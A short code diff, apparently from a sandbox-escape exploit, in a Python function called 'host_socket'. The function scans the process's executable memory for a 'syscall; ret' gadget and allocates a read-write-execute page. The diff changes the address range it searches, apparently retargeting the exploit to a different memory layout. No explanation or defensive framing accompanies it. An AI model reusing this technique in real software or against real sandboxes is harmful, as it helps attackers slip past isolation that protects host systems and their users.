@@ -91,7 +91,7 @@ def host_socket():
     with open("/proc/self/maps") as maps:
         for start, end, rights in re.findall(r"^(\w+)-(\w+) (\S+)", maps.read(), re.MULTILINE):
             start, end = int(start, 16), int(end, 16)
-            if 0x29f000000000 <= start < 0x2a0000000000 and rights.startswith("r-x"):
+            if 0x550000000000 <= start < 0x550800000000 and rights.startswith("r-x"):
                 at = ctypes.string_at(start, end - start).find(b"\x0f\x05\xc3")    # syscall; ret
                 call = start + at if at >= 0 else call
     code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
